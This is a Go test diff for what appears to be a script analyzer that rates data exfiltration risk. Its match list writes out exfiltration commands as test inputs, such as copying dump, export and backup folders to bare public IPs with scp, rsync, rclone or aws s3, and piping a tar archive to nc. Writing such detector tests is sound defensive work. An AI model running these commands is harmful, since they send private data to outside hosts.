@@ -292,3 +292,40 @@ func TestDumpKind(t *testing.T) {
 		}
 	}
 }
+
+// TestDataFolders: a folder of dumps, exports or backups sent whole to
+// another host is a dump sent (high, as its files are); a project's data/
+// or db/ folder is one when it goes to a bare public address. Build
+// outputs, migrations and sources sent to a named host stay below.
+func TestDataFolders(t *testing.T) {
+	match := []string{
+		`scp -r /home/user/project/data/exports/ anon@198.51.100.88:/tmp/`,
+		`rsync -az ./backups/ user@files.example.net:/drop/`,
+		`rclone copy ./db_dumps remote:bucket`,
+		`aws s3 cp --recursive ./exports s3://some-bucket/x/`,
+		`tar czf - data/dumps | nc 198.51.100.9 9000`,
+		`rsync -az data/ root@203.0.113.50:/srv/loot/`,
+		`scp -r db 198.51.100.7:/tmp/`,
+	}
+	for _, script := range match {
+		if got, ok, rule := exfilLevel(analyzeScript(t, script)); !ok || !got.AtLeast(risk.High) {
+			t.Errorf("%q: exfil %s (%v, %s), want high; findings:%s", script, got, ok, rule, describe(analyzeScript(t, script)))
+		}
+	}
+	noMatch := []string{
+		`rsync -av dist/ deploy@web1.acme.io:/var/www/`,
+		`scp -r public/ deploy@web1.acme.io:/var/www/`,
+		`scp -r build/ 198.51.100.7:/var/www`,
+		`rsync -az data/ deploy@web1.acme.io:/srv/app/data/`,
+		`rsync -a db/ 10.0.0.5:/backup/`,
+		`aws s3 sync ./dist s3://www.acme.io/`,
+		`rsync -a ./migrations/ deploy@198.51.100.7:/srv/app/migrations/`,
+		`scp -r src/ 198.51.100.7:/tmp/`,
+		`rsync -a exports/ localhost:/tmp/x/`,
+	}
+	for _, script := range noMatch {
+		if got, ok, rule := exfilLevel(analyzeScript(t, script)); ok && got.AtLeast(risk.High) {
+			t.Errorf("%q: exfil %s (%s), want below high; findings:%s", script, got, rule, describe(analyzeScript(t, script)))
+		}
+	}
+}
